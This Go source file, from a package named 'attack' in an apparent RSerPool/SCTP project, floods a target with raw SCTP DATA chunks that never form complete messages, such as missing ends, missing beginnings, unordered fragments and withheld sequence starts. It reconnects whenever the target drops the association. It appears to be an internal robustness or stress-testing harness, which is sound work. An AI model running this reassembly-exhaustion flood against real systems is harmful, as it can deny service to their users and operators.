package attack

import (
	"context"

	"github.com/rserpool-go/rserpool/internal/attack/rawsctp"
	"github.com/rserpool-go/rserpool/wire"
)

// A fragment returns the flags and the stream sequence number of the i-th DATA chunk of count.
type fragment func(i, count int) (flags uint8, sequence uint16)

const (
	bundleChunks = 50
	bundleOctets = 1100
)

// sendFragments sends DATA chunks that never become a message, Size octets each, over a single stream. An association that
// the target ends is opened again.
func sendFragments(f fragment) method {
	return func(ctx context.Context, w *work) error {
		habit := rawsctp.Habit{Acknowledge: true, Window: rawsctp.DefaultWindow}
		send := func(ctx context.Context, a *rawsctp.Association) error { return w.sendBundles(ctx, a, f) }
		return w.each(func(k int) error {
			if err := w.useRaw(ctx, k, rawsctp.DefaultWindow, habit, send); err != nil {
				return err
			}
			for ctx.Err() == nil {
				if err := w.useRaw(ctx, k, rawsctp.DefaultWindow, habit, send); err != nil {
					w.note("failed handshakes", 1)
				}
			}
			return nil
		})
	}
}

// sendBundles sends the chunks over an association.
func (w *work) sendBundles(ctx context.Context, a *rawsctp.Association, f fragment) error {
	for p, n := w.pacer(w.Associations), 0; n < w.Count && p.next(ctx); {
		bundle := w.bundle(a, f, n)
		if err := a.Send(bundle...); err != nil {
			return err
		}
		w.count(len(bundle))
		n += len(bundle)
		p.n = n // The rate is that of chunks.
	}
	return nil
}

// bundle returns the chunks of a packet, from the given one on.
func (w *work) bundle(a *rawsctp.Association, f fragment, first int) (chunks []rawsctp.Chunk) {
	octets := 0
	for n := first; n < w.Count && len(chunks) < bundleChunks && octets < bundleOctets; n++ {
		flags, sequence := f(n, w.Count)
		d := rawsctp.Data{TSN: a.TSN + uint32(n), StreamSequence: sequence, PPID: wire.PPIDASAP, User: make([]byte, w.Size)}
		chunks = append(chunks, d.Chunk(flags))
		octets += chunks[len(chunks)-1].Len()
	}
	return chunks
}

// The fragments.

// withoutEnd are those of a message whose last fragment does not come.
func withoutEnd(i, _ int) (flags uint8, sequence uint16) {
	if i == 0 {
		return rawsctp.FlagBegin, 0
	}
	return 0, 0
}

func withoutBeginning(int, int) (flags uint8, sequence uint16) { return 0, 0 }

func unorderedInside(int, int) (flags uint8, sequence uint16) { return rawsctp.FlagUnordered, 0 }

func unorderedBegun(int, int) (flags uint8, sequence uint16) {
	return rawsctp.FlagUnordered | rawsctp.FlagBegin, 0
}

// withoutFirst are whole messages in reverse order, of which the first does not come.
func withoutFirst(i, count int) (flags uint8, sequence uint16) {
	return rawsctp.Whole, uint16(count - i)
}

// onlyBegun are messages in reverse order, each of which is begun only.
func onlyBegun(i, count int) (flags uint8, sequence uint16) {
	return rawsctp.FlagBegin, uint16(count - i)
}
